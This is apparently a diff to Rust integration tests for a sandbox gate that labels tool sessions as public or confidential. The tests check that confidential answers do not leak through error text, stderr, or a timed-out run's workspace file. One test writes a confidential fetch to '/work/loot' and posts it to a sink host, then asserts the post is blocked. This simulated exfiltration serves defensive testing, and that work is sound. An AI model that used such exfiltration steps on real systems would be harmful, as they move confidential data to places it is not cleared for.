@@ -467,31 +467,27 @@ fn a_box_that_can_write_a_public_mount_is_refused_a_confidential_answer() {
 }
 
 /// A server's failure carries no label (the gate raises the taint by the tool's floor for
-/// it), so once the server's box has read above that, the failure may not quote what the
-/// server says: the server read a confidential answer between calls, then fails on purpose
-/// with it as its error text.
+/// it), so once the server's box has read above what its session held when the call was
+/// sent, the failure may not quote what the server says: the server reads a confidential
+/// answer in the call and fails on purpose with it as its error text. The session's taint
+/// rises to what the box read all the same (the runner reports the float before the answer),
+/// so a later failure, decided at that taint, may say it: the model is never shown more than
+/// its session's taint says. And a box that reads between calls raises the taint too, with
+/// no answer to carry it.
 #[test]
 fn a_server_that_read_a_confidential_answer_cannot_fail_with_it() {
     let lab = Lab::new("float-fail");
     let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
-    let started = lab.call_result(
-        &cfg,
-        "s1",
-        "float_fetch_later",
-        &json!({"url": "http://cleared.test/"}),
-    );
-    assert_eq!(started["class"], "public", "{started}");
-    // Fail until the background fetch has its answer (a failure leaves the session public).
-    let message = wait_for("the server never fetched", Duration::from_secs(30), || {
-        let v = lab.call(&cfg, "s1", "float_fail", &json!({})).json();
-        assert_eq!(v["status"], "failed", "{v}");
-        let m = v["message"].as_str().unwrap_or_default().to_string();
-        if !m.contains("kept 0 bytes") {
-            Ok(m)
-        } else {
-            Err(m)
-        }
-    });
+    let v = lab
+        .call(
+            &cfg,
+            "s1",
+            "float_fail",
+            &json!({"url": "http://cleared.test/"}),
+        )
+        .json();
+    assert_eq!(v["status"], "failed", "{v}");
+    let message = v["message"].as_str().unwrap_or_default();
     assert!(
         !message.contains("origin page for cleared.test"),
         "a failure quoted the confidential answer: {message}"
@@ -506,33 +502,63 @@ fn a_server_that_read_a_confidential_answer_cannot_fail_with_it() {
             log.display()
         )
     );
+    assert_eq!(session_class(&lab, &cfg, "s1"), "confidential");
+    // At that taint, the same failure may be shown.
+    let v = lab.call(&cfg, "s1", "float_fail", &json!({})).json();
+    assert_eq!(v["status"], "failed", "{v}");
+    assert!(
+        v["message"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("origin page for cleared.test"),
+        "{v}"
+    );
+
+    // Between calls: the server fetches after answering, and no answer ever carries it.
+    let started = lab.call_result(
+        &cfg,
+        "s2",
+        "float_fetch_later",
+        &json!({"url": "http://cleared.test/"}),
+    );
+    assert_eq!(started["class"], "public", "{started}");
+    wait_for("the server never fetched", Duration::from_secs(30), || {
+        let v = lab.call_result(&cfg, "s2", "float_status", &json!({}));
+        let t = answer_text(&v);
+        if t == "kept 0 bytes" { Err(t) } else { Ok(()) }
+    });
+    assert_eq!(session_class(&lab, &cfg, "s2"), "confidential");
+}
+
+/// The class of `session`'s taint, as `boxmaker sessions` shows it.
+fn session_class(lab: &Lab, cfg: &Path, session: &str) -> String {
+    let out = lab.boxmaker(cfg, &["sessions"]);
+    assert!(out.ok(), "{}", out.show());
+    out.stdout
+        .lines()
+        .find_map(|l| {
+            let mut words = l.split_whitespace();
+            (words.next() == Some(session)).then(|| words.next().unwrap_or_default().to_string())
+        })
+        .unwrap_or_else(|| panic!("no session {session}: {}", out.show()))
 }
 
 /// A server's stderr may quote what its box read, as its error text may: once its box has
 /// read above what the failure carries, a crash's `failed` answer names where the stderr is
 /// kept (for the operator, whose state directory it is in) but carries none of it. The
-/// server read a confidential answer between calls, then crashes writing it to stderr.
+/// server reads a confidential answer in the call, then crashes writing it to stderr.
 #[test]
 fn a_server_that_read_a_confidential_answer_cannot_crash_with_it_on_stderr() {
     let lab = Lab::new("float-crash");
     let cfg = lab.config("c", &format!("{BASE}{FLOAT_SERVER}"));
-    lab.call_result(
-        &cfg,
-        "s1",
-        "float_fetch_later",
-        &json!({"url": "http://cleared.test/"}),
-    );
-    // Fail until the background fetch has its answer (a failure leaves the session public).
-    wait_for("the server never fetched", Duration::from_secs(30), || {
-        let v = lab.call(&cfg, "s1", "float_fail", &json!({})).json();
-        let m = v["message"].as_str().unwrap_or_default().to_string();
-        if m.contains("withheld") {
-            Ok(())
-        } else {
-            Err(m)
-        }
-    });
-    let v = lab.call(&cfg, "s1", "float_crash", &json!({})).json();
+    let v = lab
+        .call(
+            &cfg,
+            "s1",
+            "float_crash",
+            &json!({"url": "http://cleared.test/"}),
+        )
+        .json();
     assert_eq!(v["status"], "failed", "{v}");
     let message = v["message"].as_str().unwrap_or_default();
     assert!(
@@ -642,4 +668,85 @@ fn a_connection_is_not_cut_by_its_own_answer_nor_by_one_it_is_cleared_for() {
         r["outcome"] == "closed" && r["host"] == "other.test"
     });
     assert_eq!(closed["reason"], "ended", "{closed}");
+}
+
+/// Waits until no gate serves `cfg` (the on-demand gate ends 3 s after its last client), so
+/// that the next call starts a new gate and a new runner, which knows only what the state
+/// directory says.
+fn wait_gate_gone(cfg: &Path) {
+    wait_for(
+        "the on-demand gate never ended",
+        Duration::from_secs(60),
+        || {
+            let pattern = format!("__gate --on-demand --config {}", cfg.display());
+            let found = std::process::Command::new("pgrep")
+                .args(["-f", &pattern])
+                .output()
+                .expect("pgrep");
+            if found.status.success() {
+                Err(String::from_utf8_lossy(&found.stdout).into_owned())
+            } else {
+                Ok(())
+            }
+        },
+    );
+}
+
+/// (h) A `run` that read a confidential answer, left it in the workspace and then failed
+/// (it outlived its timeout) answers a `failed`, which carries no label. The session's taint
+/// must still rise to what its box read: a later call, served by a new gate and runner (the
+/// on-demand gate ended in between), must not send the workspace's copy to a public
+/// destination, nor read it back as public.
+#[test]
+fn a_run_that_read_a_confidential_answer_and_then_failed_leaves_its_label_on_the_session() {
+    let lab = Lab::new("float-failed-run");
+    let cfg = lab.config("c", BASE);
+    let code = format!("{RAW}\nopen('/work/loot', 'w').write(get('cleared.test'))\ntime.sleep(60)");
+    let r = lab.call(
+        &cfg,
+        "s1",
+        "net",
+        &json!({"argv": ["/usr/bin/python3", "-c", code], "timeout": 5}),
+    );
+    let v = r.json();
+    assert_eq!(v["status"], "failed", "{}", r.show());
+    assert!(
+        v["message"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("timed out"),
+        "{v}"
+    );
+    wait_gate_gone(&cfg);
+
+    let read = lab.call_result(&cfg, "s1", "read_file", &json!({"path": "/work/loot"}));
+    assert_eq!(read["class"], "confidential", "{read}");
+    let (class, content) = python(
+        &lab,
+        &cfg,
+        "s1",
+        "net",
+        "loot = open('/work/loot', 'rb').read()\n\
+         sent = post('allowed.test', '/sink/h', loot)\n\
+         print(json.dumps({'loot': len(loot), 'sent': status(sent)}))",
+    );
+    let out = printed(&content);
+    assert!(out["loot"].as_u64().unwrap() > 0, "{content}");
+    assert!(
+        reached(&lab, "/sink/h").is_empty(),
+        "the workspace's copy of a confidential answer reached a public destination: {:?}",
+        reached(&lab, "/sink/h")
+    );
+    assert!(
+        out["sent"].as_str().unwrap().starts_with("HTTP/1.1 403"),
+        "{content}"
+    );
+    assert_eq!(class, "confidential", "{content}");
+    // And the audit log says why the session's taint rose.
+    let log = std::fs::read_to_string(cfg.parent().unwrap().join("state/audit.log")).unwrap();
+    assert!(
+        log.lines()
+            .any(|l| l.contains("\"floated\"") && l.contains("\"s1\"")),
+        "no floated record in the audit log"
+    );
 }
